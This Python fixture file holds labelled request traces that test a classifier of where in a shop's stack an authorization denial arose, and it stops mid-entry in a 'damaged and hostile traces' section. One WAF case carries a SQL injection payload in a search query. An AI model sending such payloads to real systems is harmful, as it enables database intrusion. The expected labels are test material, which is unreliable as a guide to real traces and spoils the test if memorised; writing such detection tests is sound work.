"""Labelled traces of requests to a shop, to be judged by the rules of docs/method.md. `why` says what a label rests on."""

# fmt: off
# ruff: noqa: E501, E731, I001
from golden.drawing import case, hexid, small
from golden.kit import (
    Svc, authorize, aws, envoy, exc, express, graphql, keycloak_event, kong, openfga, resolve, spring, spring_filters,
)

gw = Svc("edge-gateway", "go")
bff = Svc("web-bff", "node")
orders = Svc("orders", "python")
billing = Svc("billing", "node")
inventory = Svc("inventory", "java", old=True)
identity = Svc("identity", "java")
policy = Svc("policy", "go", port=8181)
docs = Svc("docs", "go")
catalog = Svc("catalog", "go", old=True)
MALLORY = {"auth.subject": "mallory"}
UA = "Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0"
ASGI = "opentelemetry.instrumentation.asgi"


def valid(subject="mallory", **kw):
    """The gateway's own check of a good token."""
    return gw.token(True, attrs={"auth.token_type": "jwt", "auth.subject": subject}, **kw)


def starlette(route, status):
    """The INTERNAL spans that ASGI instrumentation adds: they repeat the status and decide nothing."""
    return [orders.span(f"{route} http send", attrs={"asgi.event.type": t, **a}, scope=ASGI, dur=0.1)
            for t, a in (("http.response.start", {"http.status_code": status}), ("http.response.body", {}))]


# ---------------------------------------------------------------------------------------- one denial in each layer
case("gateway-token-expired",
     gw.serves("GET /api/orders/{id}", 401, gw.token(False, "token is expired", attrs={"auth.token_type": "jwt"}, tag="origin"),
               path="/api/orders/17", ip="203.0.113.50", agent=UA),
     outcome="denied", layer="api_gateway", phase="authn", service="edge-gateway", span="origin", reason="expired",
     entry_status=401, client_address="203.0.113.50", confidence=["high"],
     why="The entry service's own token check failed and it answered 401 without calling anyone.")

kongsvc = Svc("kong", host="api.shop.example")
case("kong-jwt-plugin", kong(kongsvc, 401, "cors", "jwt"),
     outcome="denied", layer="api_gateway", phase="authn", service="kong", span="plugin", entry_status=401,
     why="The jwt plugin is the last plugin span, there is no kong.balancer, and kong answered 401 itself.")

case("kong-rate-limit", kong(kongsvc, 429, "key-auth", "rate-limiting"),
     outcome="denied", layer="rate_limiter", service="kong", span="plugin", entry_status=429,
     why="429, and the rate-limiting plugin is the last before the answer: throttled, wherever it sits.")

case("waf-rule-blocks",
     Svc("edge-proxy", old=True, port=443).serves(
         "GET /search", 403, path="/search?q=1%27+OR+1%3D1--", scope="nginx", name="/search", tag="origin",
         attrs={"net.sock.peer.addr": "198.51.100.9", "waf.action": "block", "waf.rule.id": "942100",
                "waf.rule.message": "SQL Injection Attack Detected via libinjection"}),
     outcome="denied", layer="edge_waf", service="edge-proxy", span="origin", client_address="198.51.100.9",
     why="A proxy answered 403, called nobody, and carries the WAF rule that blocked.")

traefik = Svc("traefik", "go")
case("traefik-ip-allow-list",
     traefik.serves("GET", 403, traefik.span("Router", traefik.span(
         "IPAllowList", tag="origin", status="error", dur=0.3, attrs={"traefik.middleware.name": "office-only@docker"},
         message='Rejecting IP 203.0.113.77: "203.0.113.77" matched none of the trusted IPs',
         scope="github.com/traefik/traefik"), attrs={"http.route": "Host(`admin.shop.example`)"}, scope="github.com/traefik/traefik"),
         path="/", ip="203.0.113.77", scope="github.com/traefik/traefik", attrs={"entry_point": "websecure"}),
     outcome="denied", layer="edge_waf", service="traefik", span="origin", reason="Rejecting IP",
     why="An IP allow list is edge protection, whichever product enforces it.")

case("istio-rbac-denies-peer",
     gw.serves("GET /api/products/{id}", 403, valid(), gw.calls(
         orders.serves("GET /products/{id}", 403, orders.fetches(
             "GET http://reviews:9080/reviews/0", 403,
             envoy(Svc("orders.shop"), "client", 403, envoy(
                 Svc("reviews.shop"), "server", 403, tag="origin", dur=0.6, to="inbound|9080||", url="http://reviews:9080/reviews/0",
                 more={"response_code_details": "rbac_access_denied_matched_policy[ns[shop]-policy[reviews-viewer]-rule[0]]"}),
                 to="outbound|9080||reviews.shop.svc.cluster.local", url="http://reviews:9080/reviews/0")))), ip="203.0.113.50"),
     outcome="denied", layer="service_mesh", phase="authz", service="reviews.shop", span="origin", reason="reviews-viewer",
     findings=["relayed_by"],
     why="The sidecar before reviews answered 403 itself and its details name the RBAC policy; orders and the gateway relay.")

keycloak = Svc("keycloak", "java")
case("keycloak-account-locked",
     gw.serves("POST /login", 401, gw.calls(keycloak.serves(
         "POST /realms/{realm}/protocol/{protocol}/token", 401, path="/realms/shop/protocol/openid-connect/token",
         scope="io.quarkus.opentelemetry", status="error", tag="origin", events=[keycloak_event(
             "LOGIN_ERROR", "user_temporarily_disabled", auth_method="openid-connect")])),
         ip="203.0.113.99"),
     outcome="denied", layer="identity_provider", phase="authn", service="keycloak", span="origin", entry_status=401,
     reason="user_temporarily_disabled", findings=["relayed_by"],
     why="Keycloak's LOGIN_ERROR event says that the account is locked; the gateway only passes the 401 on.")

case("login-needs-second-factor",
     gw.serves("POST /login", 401, gw.calls(identity.serves("POST /login", 401, identity.login(
         False, "mfa_required", identity.sql("SELECT id, password_hash, mfa FROM users WHERE name = ?", db="identity", table="users"),
         tag="origin", attrs={"auth.method": "password", "auth.username": "alice"})), ), ip="192.0.2.10"),
     outcome="denied", layer="identity_provider", phase="authn", service="identity", span="origin", reason="mfa_required",
     principal="alice", client_address="192.0.2.10",
     why="The service that verifies logins for others refused: a second factor is missing.")

case("application-missing-role",
     gw.serves("GET /api/orders/{id}", 403, valid(), gw.calls(orders.serves(
         "GET /orders/{id}", 403, orders.check(False, "missing role orders:read", tag="origin", attrs=MALLORY | {
             "auth.resource": "order:5001", "auth.permissions_granted": 0}), *starlette("GET /orders/{id}", 403))),
         path="/api/orders/5001", ip="203.0.113.50", agent=UA),
     outcome="denied", layer="application", phase="authz", service="orders", span="origin", reason="missing role orders:read",
     principal="mallory", entry_status=403, confidence=["high"], findings=["relayed_by"], enforced_by="orders",
     layers=[["api_gateway", "allow"], ["application", "deny"]],
     why="The gateway accepted the token; orders' own role check refused; the deeper `http send` spans only repeat the status.")

accounts = Svc("accounts", "java")
case("spring-has-role",
     gw.serves("DELETE /api/accounts/{id}", 403, gw.calls(spring(
         accounts, "DELETE /accounts/{id}", 403, spring_filters(accounts, authorize(
             accounts, False, "ExpressionAuthorizationDecision [granted=false, expressionAttribute=hasRole('ADMIN')]",
             "[ROLE_CUSTOMER]", tag="origin")), path="/accounts/7"))),
     outcome="denied", layer="application", phase="authz", service="accounts", span="origin", reason="ADMIN",
     why="Spring Security's authorization observation says decision=false, with the expression that failed.")

nest = Svc("returns", "node")
case("nestjs-guard",
     gw.serves("DELETE /api/returns/:id", 403, gw.calls(nest.serves(
         "DELETE /returns/:id", 403, *express(nest, "query", "expressInit", "jsonParser"),
         nest.span("ReturnsController.remove", tag="origin", status="error", message="Forbidden resource",
                   scope="@opentelemetry/instrumentation-nestjs-core", events=[exc("ForbiddenException", "Forbidden resource")],
                   attrs={"component": "@nestjs/core", "nestjs.type": "request_context", "nestjs.controller": "ReturnsController",
                          "nestjs.callback": "remove", "http.method": "DELETE", "http.route": "/returns/:id"})))),
     outcome="denied", layer="application", phase="authz", service="returns", span="origin", reason="Forbidden resource",
     why="A guard threw ForbiddenException before the handler: the request_context span has no handler child.")

case("express-passport",
     gw.serves("GET /api/cart", 401, gw.calls(billing.serves(
         "GET /cart", 401, *express(billing, "query", "expressInit", "authenticate", last="origin")))),
     outcome="denied", layer="application", phase="authn", service="billing", span="origin",
     why="passport's `authenticate` is the last middleware and no request handler followed; nobody was called.")

ledger = Svc("ledger", "go", old=True)
case("grpc-permission-denied",
     gw.serves("GET /api/ledger/{id}", 403, valid(), gw.asks(
         ledger.answers("ledger.v1.Ledger/GetEntry", "PERMISSION_DENIED", tag="origin"), message="caller lacks role ledger.viewer")),
     outcome="denied", layer="application", phase="authz", service="ledger", span="origin", reason="ledger.viewer",
     entry_status=403,
     why="The gRPC server refused with PERMISSION_DENIED; its text stands on the caller's CLIENT span.")

fga, STORE = Svc("openfga", port=8081), "01H0H015178Y2V4CX10C2KGHF4"
case("openfga-check-denies",
     gw.serves("PUT /api/docs/{id}", 403, valid("anne"), gw.calls(docs.serves(
         "PUT /docs/{id}", 403, docs.asks(fga.answers("openfga.v1.OpenFGAService/Check", "OK", openfga(
             fga, "Check", resolve(fga, False), tag="origin", allowed=False, user="user:anne", relation="editor",
             object="document:budget", store_id=STORE)))))),
     outcome="denied", layer="policy_engine", phase="authz", service="openfga", span="origin", enforced_by="docs",
     layers=[["api_gateway", "allow"], ["policy_engine", "deny"]],
     why="OpenFGA's Check carries allowed=false while its RPC is OK; docs turned it into a 403.")

case("policy-service-says-no-with-200",
     gw.serves("POST /api/orders", 403, valid(), gw.calls(orders.serves(
         "POST /orders", 403, orders.calls(policy.serves("POST /v1/decide", 200, tag="origin", attrs={
             "authz.decision": "deny", "authz.reason": "subject is not a member of tenant 42"})))), ip="203.0.113.50"),
     outcome="denied", layer="policy_engine", phase="authz", service="policy", span="origin", reason="tenant 42",
     enforced_by="orders",
     why="The policy service answered 200 and decided deny; orders enforced it.")

case("postgres-table-privilege",
     gw.serves("GET /api/orders/{id}", 500, valid(), gw.calls(orders.serves(
         "GET /orders/{id}", 500, orders.check(True, attrs=MALLORY), orders.sql(
             "SELECT * FROM invoices WHERE order_id = $1", table="invoices", user="orders_ro",
             error=("42501", "permission denied for table invoices"), tag="origin")))),
     outcome="denied", layer="database", phase="authz", service="orders", span="origin",
     reason="permission denied for table invoices",
     layers=[["application", "allow"], ["database", "deny"]],
     why="PostgreSQL refused the service's role (asyncpg's InsufficientPrivilegeError); the client saw a 500, but a layer refused.")

case("postgres-row-policy-node",
     gw.serves("POST /api/invoices", 403, valid(), gw.calls(billing.serves("POST /invoices", 403, billing.sql(
         "INSERT INTO invoices (tenant, total) VALUES ($1, $2)", db="billing", tag="origin",
         error=("42501", 'new row violates row-level security policy "tenant_isolation" for table "invoices"'))))),
     outcome="denied", layer="database", phase="authz", service="billing", span="origin", reason="row-level security",
     why="node-postgres keeps the text in the status message and only the code in the exception event.")

kafka = Svc("shipping", "java")
case("kafka-topic-acl",
     gw.serves("POST /api/shipments", 500, gw.calls(kafka.serves("POST /shipments", 500, kafka.message(
         "producer", "kafka", "shipments.v1", tag="origin", status="error", scope="io.opentelemetry.kafka-clients-2.6",
         events=[exc("org.apache.kafka.common.errors.TopicAuthorizationException",
                     "Not authorized to access topics: [shipments.v1]")])))),
     outcome="denied", layer="message_broker", phase="authz", service="shipping", span="origin",
     reason="Not authorized to access topics",
     why="The broker refused the producer by ACL; the 500 is the service's way of passing it on.")

reports = Svc("reports", "flask", old=True)
case("s3-access-denied",
     gw.serves("GET /api/reports/{id}", 403, valid(), gw.calls(reports.serves("GET /reports/<id>", 403, aws(
         reports, "S3", "GetObject", 403, "AccessDenied", "Access Denied", tag="origin")))),
     outcome="denied", layer="external_service", phase="authz", service="reports", span="origin", reason="AccessDenied",
     why="A cloud API refused our service; it sends no spans, so the emitting service is named.")

case("search-throttled",
     gw.serves("GET /api/search", 429, valid(), gw.calls(Svc("search", "dotnet").serves("GET /search", 429, tag="origin"))),
     outcome="denied", layer="rate_limiter", service="search", span="origin", entry_status=429, findings=["relayed_by"],
     why="The innermost hop that answered 429 called nobody: throttled there, relayed above.")

case("sidecar-refuses-without-details",
     gw.serves("GET /api/stock/{sku}", 403, valid(), gw.calls(orders.serves("GET /stock/{sku}", 403, orders.fetches(
         "GET http://inventory:8080/stock/17", 403, envoy(Svc("inventory.shop"), "server", 403, tag="origin", dur=0.4,
                                                           to="inbound|8080||", url="http://inventory:8080/stock/17"))))),
     outcome="denied", layer="service_mesh", service="inventory.shop", span="origin", confidence=["medium", "low"],
     findings=["relayed_by"],
     why="A sidecar answered 403 and called nobody; nothing names the policy, so the evidence is the protocol's.")

case("redis-password-missing",
     gw.serves("GET /api/cart", 500, gw.calls(billing.serves("GET /cart", 500, billing.span(
         "redis-GET", kind="client", tag="origin", status="error", message="NOAUTH Authentication required.",
         scope="@opentelemetry/instrumentation-redis", attrs={"db.system": "redis", "db.statement": "GET cart:17",
                                                              "net.peer.name": "cart-cache", "net.peer.port": 6379},
         events=[exc("ReplyError", "NOAUTH Authentication required.")])))),
     outcome="denied", layer="database", phase="authn", service="billing", span="origin", reason="NOAUTH",
     why="The cache refused a connection that had not logged in; a cache counts as a database.")

case("rabbitmq-exchange-acl",
     gw.serves("POST /api/parcels", 503, gw.calls(billing.serves("POST /parcels", 503, billing.message(
         "producer", "rabbitmq", "parcels", tag="origin", status="error", scope="@opentelemetry/instrumentation-amqplib",
         message="Channel closed by server: 403 (ACCESS-REFUSED) with message \"ACCESS_REFUSED - write access to exchange 'parcels' "
                 "in vhost '/' refused for user 'billing'\"")))),
     outcome="denied", layer="message_broker", phase="authz", service="billing", span="origin", reason="ACCESS_REFUSED",
     why="The broker closed the channel: this user may not write to the exchange.")

case("third-party-refuses-our-key",
     gw.serves("POST /api/labels", 403, valid(), gw.calls(orders.serves("POST /labels", 403, orders.fetches(
         "POST https://api.carrier.example/v2/labels", 403, tag="origin")))),
     outcome="denied", layer="external_service", service=["orders", "api.carrier.example"], span="origin",
     confidence=["medium", "low"], findings=["uninstrumented_peer", "relayed_by"],
     why="A carrier's API answered 403 and sends no spans: it is named by its address, with protocol evidence only.")

# ---------------------------------------------------------------------------------------- relays and other clothes
case("relay-over-four-hops",
     gw.serves("POST /api/checkout", 403, valid(), gw.calls(bff.serves(
         "POST /checkout", 403, *express(bff, "query", "expressInit"), bff.calls(orders.serves(
             "POST /orders", 403, orders.calls(inventory.serves(
                 "POST /reservations", 403, inventory.check(False, "warehouse is outside the caller's region", tag="origin",
                                                            attrs=MALLORY))))))), ip="203.0.113.50"),
     form="v1", outcome="denied", layer="application", phase="authz", service="inventory", span="origin",
     reason="outside the caller's region",
     findings=["relayed_by"], confidence=["high"],
     why="Three hops pass on what the fourth decided; the file is in the form of Tempo's first trace route.")

tax = Svc("tax", "dotnet")
case("status-401-becomes-403",
     gw.serves("GET /api/invoices/{id}", 403, gw.calls(billing.serves("GET /invoices/:id", 403, billing.calls(tax.serves(
         "GET /rates/{country}", 401, tax.token(False, "invalid audience", tag="origin")))))),
     outcome="denied", layer="application", phase="authn", service="tax", span="origin", reason="audience", entry_status=403,
     findings=["status_rewritten"],
     why="tax said 401 for a token meant for someone else; billing made it a 403.")

case("denial-becomes-500",
     gw.serves("GET /api/quote", 500, valid(), gw.calls(orders.serves("GET /quote", 500, orders.calls(
         Svc("pricing", "go").serves("GET /prices", 403, Svc("pricing", "go").check(False, "missing scope prices:read", tag="origin"))),
         events=[exc("httpx.HTTPStatusError", "Client error '403 Forbidden' for url 'http://pricing:8080/prices'")]))),
     outcome="denied", layer="application", phase="authz", service="pricing", span="origin", reason="prices:read",
     entry_status=500,
     findings=["status_rewritten"],
     why="pricing refused; orders raised on the 403 and answered 500: still a refusal by a layer, in other clothes.")

case("masked-as-404",
     gw.serves("GET /api/docs/{id}", 404, valid(), gw.calls(docs.serves("GET /docs/{id}", 404, docs.sql(
         "SELECT owner FROM docs WHERE id = $1", db="docs"), docs.check(False, "not the owner", tag="origin", attrs=MALLORY)))),
     outcome="denied", layer="application", phase="authz", service="docs", span="origin", reason="not the owner",
     entry_status=404,
     findings=["masked_denial"],
     why="The document exists and the ownership check failed; the 404 hides it.")

shop = Svc("storefront", "node")
case("session-expired-redirects-to-login",
     gw.serves("GET /account", 302, gw.calls(shop.serves(
         "GET /account", 302, shop.token(False, "session expired", tag="origin", attrs={"auth.token_type": "session_cookie"}),
         attrs={"http.response.header.location": ["/login?next=%2Faccount"]})), ip="192.0.2.31"),
     outcome="denied", layer="application", phase="authn", service="storefront", span="origin", reason="session expired",
     entry_status=302,
     findings=["masked_denial"],
     why="A redirect to the login page is the masked form of a failed session check.")

graph = Svc("graph-api", "node")
case("graphql-200-forbidden",
     gw.serves("POST /graphql", 200, valid(), gw.calls(graph.serves(
         "POST /graphql", 200, graphql(graph, "graphql.parse"), graphql(graph, "graphql.validate"), graphql(
             graph, "graphql.execute", graphql(graph, "graphql.resolve payroll", tag="origin", status="error",
                                    message="Forbidden: missing permission payroll:read",
                                    events=[exc("GraphQLError", "Forbidden: missing permission payroll:read")],
                                    attrs={"graphql.field.name": "payroll", "graphql.field.path": "payroll",
                                           "graphql.field.type": "Payroll!"}),
             attrs={"graphql.operation.type": "query", "graphql.operation.name": "Payroll"})))),
     outcome="denied", layer="application", phase="authz", service="graph-api", span="origin", reason="payroll:read",
     entry_status=200,
     findings=["masked_denial"],
     why="The only field asked for was refused by its resolver; HTTP says 200 and the body carries the refusal.")

# ---------------------------------------------------------------------------------------- errors are not denials
case("policy-timeout-fails-closed",
     gw.serves("GET /api/orders/{id}", 403, valid(), gw.calls(orders.serves("GET /orders/{id}", 403, orders.fetches(
         "POST http://opa:8181/v1/data/orders/allow", None, error="ReadTimeout", dur=2000,
         events=[exc("httpx.ReadTimeout", "timed out")])))),
     outcome="error", layer="policy_engine", entry_status=403, no_findings=["fail_open"],
     why="OPA never answered and orders failed closed: the 403 is not a decision.")

case("policy-timeout-fails-open",
     gw.serves("PUT /api/orders/{id}", 200, valid(), gw.calls(orders.serves("PUT /orders/{id}", 200, orders.fetches(
         "POST http://opa:8181/v1/data/orders/allow", None, error="ReadTimeout", dur=2000,
         events=[exc("httpx.ReadTimeout", "timed out")]),
         orders.sql("UPDATE orders SET note = $1 WHERE id = $2", table="orders")))),
     outcome=["error", "allowed"], findings=["fail_open"],
     why="The check broke and the guarded write went on: no layer refused, and the finding says fail_open.")

case("introspection-timeout",
     gw.serves("GET /api/orders", 401, gw.fetches("POST http://identity:8080/oauth2/introspect", None, error="context deadline exceeded",
                                                  message="context deadline exceeded", dur=5000, peer="identity"), ip="192.0.2.44"),
     outcome="error", layer="identity_provider", entry_status=401, client_address="192.0.2.44",
     why="The identity provider did not answer in time; the 401 is the gateway failing closed.")

ingress = Svc("ingress.shop", host="api.shop.example")
case("jwks-fetch-fails",
     envoy(ingress, "server", 401,
           ingress.span("JWT Remote PubKey Fetch", kind="client", scope="envoy", status="error", attrs={
               "component": "proxy", "http.method": "GET", "http.url": "https://login.shop.example/.well-known/jwks.json",
               "http.status_code": "503", "upstream_cluster.name": "outbound|443||login.shop.example", "error": "true"}),
           to="outbound|8080||orders.shop.svc.cluster.local",
           more={"response_code_details": "jwt_authn_access_denied{Jwks_remote_fetch_is_failed}"}),
     outcome="error", layer="identity_provider", entry_status=401,
     why="The key download failed, so a token of unknown worth was turned away: the identity provider is what broke.")

case("user-store-down",
     gw.serves("POST /login", 503, gw.calls(identity.serves("POST /login", 503, identity.span(
         "auth.login", identity.sql("SELECT id, password_hash FROM users WHERE name = ?", db="identity", table="users",
                                    error=("08006", "Connection to identity-db:5432 refused.")),
         attrs={"auth.method": "password", "auth.username": "alice"}, status="error",
         events=[exc("org.springframework.jdbc.CannotGetJdbcConnectionException", "Failed to obtain JDBC Connection")])))),
     outcome="error", layer=["database", "identity_provider"], entry_status=503,
     why="Nobody looked at the password: the user store could not be reached.")

case("application-breaks-after-allow",
     gw.serves("POST /api/orders", 500, valid("alice"), gw.calls(orders.serves(
         "POST /orders", 500, orders.check(True, attrs={"auth.subject": "alice"}), orders.span("price order", status="error"),
         events=[exc("KeyError", "'currency'")]))),
     outcome="error", entry_status=500, layers=[["api_gateway", "allow"], ["application", "allow"]],
     why="Every check allowed; the application itself broke.")

# ---------------------------------------------------------------------------------------- refused, but by whom
case("silent-hop-asked-another",
     gw.serves("GET /api/exports", 403, gw.calls(orders.serves("GET /exports", 403, orders.calls(
         Svc("entitlements", "go").serves("GET /entitlements/{user}", 200)))), ip="203.0.113.50"),
     outcome="inconclusive", layer=None, entry_status=403,
     why="orders refused after asking entitlements, and neither says who decided: the answer's body is not in the trace.")

case("peer-without-status",
     gw.serves("GET /api/crm/{id}", 403, gw.fetches("GET http://legacy-crm:8080/crm/7", None), ip="203.0.113.50"),
     outcome="inconclusive", layer=None, findings=["uninstrumented_peer"],
     why="The gateway answered 403 after calling a peer that sends no spans and whose status nobody recorded.")

case("peer-403-without-server-span",
     gw.serves("POST /api/orders", 403, valid(), gw.calls(orders.serves(
         "POST /orders", 403, orders.calls(inventory.serves("GET /stock/{sku}", 200)),
         orders.fetches("POST http://inventory:8080/reservations", 403, tag="origin", peer="inventory")))),
     outcome="denied", service=["inventory", "orders"], span="origin", confidence=["medium", "low"], findings=["missing_hop"],
     why="A CLIENT span with 403 points at its peer, which sends spans elsewhere in this trace but not for this call.")

case("plain-leaf-403",
     gw.serves("GET /api/audit", 403, gw.calls(Svc("audit", "dotnet").serves("GET", 403, path="/audit", tag="origin")),
               path="/api/audit", ip="203.0.113.50"),
     outcome="denied", layer="application", service="audit", span="origin", confidence=["medium"], findings=["relayed_by"],
     why="No hand-written signal anywhere: the deepest hop answered 403 and called nobody, so it is the origin by protocol.")

case("no-authentication-anywhere",
     gw.serves("GET /api/products", 200, gw.calls(catalog.serves("GET /products", 200, catalog.sql(
         "SELECT id, name FROM products LIMIT 50", db="catalog"))), ip="192.0.2.77"),
     outcome="no_auth_evidence", layer=None, span_id=None, no_findings=["fail_open", "masked_denial"],
     why="Nothing in the trace speaks of authentication or authorization.")

# ---------------------------------------------------------------------------------------- allowed, with noise
case("allowed-full-chain",
     gw.serves("POST /api/orders", 201, valid("alice"), gw.calls(orders.serves(
         "POST /orders", 201, orders.check(True, attrs={"auth.subject": "alice", "auth.permissions_granted": 2}),
         orders.calls(policy.serves("POST /v1/decide", 200, attrs={"authz.decision": "allow"})),
         orders.sql("INSERT INTO orders (customer) VALUES ($1)", table="orders"),
         orders.message("producer", "kafka", "orders.created", scope="opentelemetry.instrumentation.aiokafka"))),
         ip="192.0.2.10"),
     outcome="allowed", layer=None, span_id=None, principal="alice", client_address="192.0.2.10",
     layers=[["api_gateway", "allow"], ["application", "allow"], ["policy_engine", "allow"]],
     no_findings=["fail_open", "retried", "side_effect_after_denial"],
     why="Three layers were asked, all allowed, and the client got its 201.")

case("refreshed-token-then-200",
     gw.serves("GET /api/orders", 200, gw.calls(bff.serves(
         "GET /orders", 200,
         bff.calls(orders.serves("GET /orders", 401, orders.token(False, "token is expired"))),
         bff.calls(identity.serves("POST /oauth2/token", 200)),
         bff.calls(orders.serves("GET /orders", 200, orders.token(True)))))),
     outcome="allowed", findings=["retried"], no_findings=["fail_open"],
     why="The first attempt's 401 was answered with a fresh token and the second attempt succeeded.")

case("batch-check-with-denies",
     gw.serves("GET /api/docs", 200, valid("anne"), gw.calls(docs.serves(
         "GET /docs", 200, docs.sql("SELECT id, title FROM docs LIMIT 4", db="docs"),
         docs.asks(fga.answers("openfga.v1.OpenFGAService/BatchCheck", "OK", openfga(
             fga, "BatchCheck", *(resolve(fga, i % 2 == 0) for i in range(4)), batch_size=4, store_id=STORE)))))),
     outcome="allowed", layer=None, no_findings=["fail_open"],
     why="Filtering a list asks what is permitted; denies among the answers refuse nobody.")

case("mesh-dry-run-would-deny",
     gw.serves("GET /api/products/{id}", 200, valid("alice"), gw.calls(orders.serves("GET /products/{id}", 200, orders.fetches(
         "GET http://reviews:9080/reviews/0", 200, envoy(
             Svc("reviews.shop"), "server", 200, to="inbound|9080||", url="http://reviews:9080/reviews/0",
             more={"istio.authorization.dry_run.deny_policy.name": "ns[shop]-policy[deny-orders]-rule[0]",
                   "istio.authorization.dry_run.deny_policy.result": "denied"}))))),
     outcome="allowed", layer=None, no_findings=["fail_open"],
     why="A dry run's deny never counts; the gateway's allow does.")

case("buttons-the-page-may-show",
     gw.serves("GET /api/me/permissions", 200, valid("bob"), gw.calls(orders.serves("GET /me/permissions", 200, *(
         orders.check(ok, "" if ok else f"missing role {what}", attrs={"auth.resource": what}, status="unset")
         for what, ok in (("orders:read", True), ("orders:refund", False), ("orders:delete", False)))))),
     outcome="allowed", layer=None, no_findings=["fail_open"],
     why="A permission probe contains normal denies; it is the answer that was asked for.")

case("slow-introspection",
     gw.serves("GET /api/orders", 200, gw.token(True, "", gw.calls(identity.serves("POST /oauth2/introspect", 200, dur=1900)), attrs={
         "auth.token_type": "opaque", "auth.subject": "bob"}), gw.calls(orders.serves("GET /orders", 200)), ip="192.0.2.90"),
     outcome="allowed", layer=None, principal="bob", findings=["slow_auth"],
     why="Allowed, but nearly the whole request was spent on looking at the token.")

# ---------------------------------------------------------------------------------------- bypassed and partly denied
case("denied-but-written",
     gw.serves("PUT /api/orders/{id}", 200, valid(), gw.calls(orders.serves(
         "PUT /orders/{id}", 200, orders.check(False, "missing role orders:write", tag="origin", attrs=MALLORY),
         orders.sql("UPDATE orders SET total = $1 WHERE id = $2", table="orders")))),
     outcome="bypassed", layer="application", service="orders", span="origin", reason="orders:write",
     findings=["fail_open", "side_effect_after_denial"], side_effects=[["db_write", "after_denial"]],
     why="The check refused the protected update, and the update ran and answered 200 all the same.")

recs = Svc("recommendations", "python")
case("dashboard-one-branch-denied",
     gw.serves("GET /api/dashboard", 200, valid("bob"), gw.calls(bff.serves(
         "GET /dashboard", 200, bff.calls(orders.serves("GET /orders", 200, orders.check(True)), beside=True),
         bff.calls(billing.serves("GET /invoices", 403, billing.check(False, "missing scope invoices:read", tag="origin")), beside=True),
         bff.calls(recs.serves("GET /recommendations", 200), beside=True)))),
     outcome="partially_denied", layer="application", service="billing", span="origin", reason="invoices:read",
     entry_status=200,
     why="One of three branches was refused; the page was served without it.")

case("policy-says-no-and-nobody-listens",
     gw.serves("DELETE /api/docs/{id}", 204, valid("anne"), gw.calls(docs.serves(
         "DELETE /docs/{id}", 204, docs.calls(policy.serves("POST /v1/decide", 200, tag="origin", attrs={
             "authz.decision": "deny", "authz.reason": "retention period has not ended"})),
         docs.sql("DELETE FROM docs WHERE id = $1", db="docs", table="docs"),
         docs.message("producer", "kafka", "docs.deleted", scope="github.com/IBM/sarama")))),
     outcome="bypassed", layer="policy_engine", service="policy", span="origin", reason="retention", entry_status=204,
     findings=["fail_open", "side_effect_after_denial"], side_effects=[["db_write", "after_denial"]],
     why="The policy service denied and docs went on to delete the document and to tell everyone.")

case("archive-some-of-many",
     gw.serves("POST /api/orders/archive", 207, valid("bob"), gw.calls(orders.serves("POST /orders/archive", 207, *(
         orders.span("archive one", orders.check(i != 2, "order is under dispute" if i == 2 else "", tag="origin" if i == 2 else None),
                     *([] if i == 2 else [orders.sql("UPDATE orders SET archived = true WHERE id = $1", table="orders")]))
         for i in range(4))))),
     outcome="partially_denied", layer="application", service="orders", span="origin", reason="dispute", entry_status=207,
     no_findings=["fail_open", "side_effect_after_denial"],
     why="One order of four was refused and left alone; the writes of the other branches are not after *their* denial.")

# ---------------------------------------------------------------------------------------- not the loudest span
case("cache-miss-404-below-a-403",
     gw.serves("GET /api/orders/{id}", 403, valid(), gw.calls(orders.serves(
         "GET /orders/{id}", 403, orders.calls(Svc("order-cache", "go").serves("GET /cache/{key}", 404)),
         orders.check(False, "missing role orders:read", tag="origin")))),
     outcome="denied", layer="application", service="orders", span="origin", reason="orders:read",
     why="The deepest 4xx is a cache miss; the role check came after it and explains the 403.")

case("stack-trace-after-denial",
     gw.serves("GET /api/orders/{id}", 403, valid(), gw.calls(orders.serves(
         "GET /orders/{id}", 403, orders.check(False, "missing role orders:read", tag="origin", status="unset"),
         orders.span("render problem", status="error", message="UndefinedError: 'user' is undefined",
                     events=[exc("jinja2.exceptions.UndefinedError", "'user' is undefined")])))),
     outcome="denied", layer="application", service="orders", span="origin", reason="orders:read",
     why="The only span in error is the page that could not be rendered after the denial.")

case("unrelated-error-beside-denial",
     gw.serves("GET /api/basket", 403, valid(), gw.calls(orders.serves(
         "GET /basket", 403, orders.calls(recs.serves("GET /recommendations", 500, recs.fetches(
             "GET http://feature-store:8080/features", None, error="ConnectError"))),
         orders.check(False, "basket belongs to another customer", tag="origin")))),
     outcome="denied", layer="application", service="orders", span="origin", reason="another customer",
     why="recommendations broke and was tolerated; the ownership check refused.")

case("write-before-denial",
     gw.serves("POST /api/orders", 403, valid(), gw.calls(orders.serves(
         "POST /orders", 403, orders.sql("INSERT INTO orders (customer, total) VALUES ($1, $2)", table="orders"),
         orders.calls(billing.serves("POST /payments", 403, billing.check(
             False, "payment method belongs to another user", tag="origin")))))),
     outcome="denied", layer="application", service="billing", span="origin", reason="another user",
     findings=["side_effect_before_denial", "relayed_by"], side_effects=[["db_write", "before_denial"]],
     no_findings=["side_effect_after_denial", "fail_open"],
     why="The order row was written before the payment was refused, and nothing takes it back.")

consumer = Svc("ledger-worker", "python", old=True)
case("consumer-denied-later",
     gw.serves("POST /api/refunds", 403, valid(), gw.calls(orders.serves(
         "POST /refunds", 403, orders.message("producer", "kafka", "refunds.requested", consumer.message(
             "consumer", "kafka", "refunds.requested", consumer.sql(
                 "INSERT INTO ledger (ref) VALUES ($1)", db="ledger", error=("42501", "permission denied for table ledger")),
             status="error", later=900, scope="opentelemetry.instrumentation.aiokafka"),
         scope="opentelemetry.instrumentation.aiokafka"),
         orders.check(False, "refund exceeds the clerk's limit", tag="origin", attrs=MALLORY)))),
     outcome="denied", layer="application", service="orders", span="origin", reason="limit",
     findings=["side_effect_before_denial"],
     why="The consumer's denial is deeper and louder but came after the response and is not on the refusal's path.")

case("worker-refuses-a-message",
     consumer.message("consumer", "kafka", "refunds.requested", consumer.check(
         False, "refund exceeds the clerk's limit", tag="origin", attrs=MALLORY), status="error",
         scope="opentelemetry.instrumentation.aiokafka", links=[(hexid("the producer's trace", n=32), hexid("the producer's span"))]),
     layer="application", phase="authz", service="ledger-worker", span="origin", reason="limit", principal="mallory",
     why="No HTTP at all: a consumer, linked to its producer's trace, refused to act.")

# ---------------------------------------------------------------------------------------- damaged and hostile traces
denied_order = lambda **kw: orders.serves("GET /orders/{id}", 403, orders.check(
    False, "missing role orders:read", tag="origin", attrs=MALLORY), **kw)
case("parent-span-lost",
